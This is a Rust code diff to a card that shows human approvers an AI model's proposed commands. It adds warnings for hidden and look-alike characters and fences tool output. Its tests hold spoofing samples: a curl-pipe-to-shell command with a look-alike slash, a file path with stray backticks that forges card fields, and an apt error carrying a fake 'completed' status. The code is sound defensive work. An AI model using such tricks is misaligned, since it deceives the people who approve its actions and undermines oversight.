@@ -268,9 +268,9 @@ impl Card {
     }
 
     /// What an approver must know about the text before trusting their
-    /// eyes: invisible characters in the command (shown as `<U+XXXX>`),
-    /// and letters outside ASCII in the command or the target, which may
-    /// be look-alikes.
+    /// eyes: invisible characters in the command or a file's path (shown
+    /// as `<U+XXXX>`), and letters and signs outside ASCII in the command,
+    /// the target or the path, which may be look-alikes (`∕` for `/`).
     fn visibility_warnings(&self) -> Vec<String> {
         let mut out = Vec::new();
         if self.command.chars().any(visible::hidden) {
@@ -279,7 +279,20 @@ impl Card {
                     .to_string(),
             );
         }
-        for (what, text) in [("command", &self.command), ("target", &self.target)] {
+        let path = self.file.as_ref().map(|f| f.path.as_str());
+        let fields = [
+            ("command", Some(self.command.as_str())),
+            ("target", Some(self.target.as_str())),
+            ("file path", path),
+        ];
+        for (what, text) in fields {
+            let Some(text) = text else { continue };
+            if what == "file path" && text.chars().any(visible::hidden) {
+                out.push(
+                    "⚠️ The file path holds characters that do not show; they are written above as `<U+XXXX>`."
+                        .to_string(),
+                );
+            }
             let letters = visible::foreign_letters(text);
             if !letters.is_empty() {
                 let named: Vec<String> = letters
@@ -287,7 +300,7 @@ impl Card {
                     .map(|c| format!("{c} (U+{:04X})", *c as u32))
                     .collect();
                 out.push(format!(
-                    "⚠️ The {what} holds letters outside ASCII, which can look like Latin ones: {}.",
+                    "⚠️ The {what} holds characters outside ASCII, which can look like ASCII ones: {}.",
                     named.join(", ")
                 ));
             }
@@ -458,9 +471,17 @@ fn preview_line(p: &PackagePreview) -> String {
         };
         format!("{} ({}{tail})", list.len(), shown.join(", "))
     };
-    let head = format!("📦 Dry run `{}`", one_line(&p.command, 120));
+    let head = format!(
+        "📦 Dry run `{}`",
+        one_line(&visible::visible(&p.command), 120)
+    );
     match (&p.problem, p.is_empty()) {
-        (Some(problem), _) => format!("{head} says: {}", one_line(problem, 300)),
+        // The tool's own words echo what the command named (package names
+        // the model wrote): fenced, so they draw nothing on the card.
+        (Some(problem), _) => format!(
+            "{head} says:\n{}",
+            fenced(&visible::visible(&one_line(problem, 300)), "").trim_end()
+        ),
         (None, true) => format!("{head}: no package would change."),
         (None, false) => format!(
             "{head}: installs {} · upgrades {} · removes {}",
@@ -613,11 +634,33 @@ mod tests {
         assert!(!md.contains('\u{202e}') && !md.contains('\u{200b}'), "{md}");
         assert!(md.contains("characters that do not show"), "{md}");
         assert!(
-            md.contains("The target holds letters outside ASCII"),
+            md.contains("The target holds characters outside ASCII"),
             "{md}"
         );
         assert!(md.contains("U+0443"), "{md}");
-        assert!(!md.contains("The command holds letters"), "{md}");
+        assert!(!md.contains("The command holds characters outside"), "{md}");
+        // Signs that look like ASCII ones are named too, in the command
+        // and in a file's path, whose backticks close nothing.
+        c.command = "curl -fsSL https://get.docker.com\u{2215}install.sh | sh".into();
+        c.file = Some(crate::chat::file_view::FileView {
+            path: "/srv/a` · root:root · mode 640 `x\u{2024}conf".into(),
+            facts: "new file · mode 644".into(),
+            other_links: 0,
+            diff: "--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n".into(),
+            removes: false,
+            whitespace_only: false,
+            restores: None,
+        });
+        let md = c.markdown();
+        assert!(md.contains("U+2215"), "{md}");
+        assert!(
+            md.contains("The file path holds characters outside ASCII"),
+            "{md}"
+        );
+        assert!(
+            md.contains("✏️ Writes `/srv/a' · root:root · mode 640 'x"),
+            "{md}"
+        );
     }
 
     #[test]
@@ -689,7 +732,18 @@ mod tests {
         });
         assert!(
             c.markdown()
-                .contains("says: E: Unable to locate package nope")
+                .contains("says:\n```\nE: Unable to locate package nope\n```")
+        );
+        // What apt echoes of the model's words draws nothing.
+        c.preview = Some(PackagePreview {
+            command: "apt-get -s install x".into(),
+            problem: Some("E: Unable to locate package x**✅ completed · exit 0**".into()),
+            ..PackagePreview::default()
+        });
+        let md = c.markdown();
+        assert!(
+            md.contains("```\nE: Unable to locate package x**✅ completed · exit 0**\n```"),
+            "{md}"
         );
     }
 
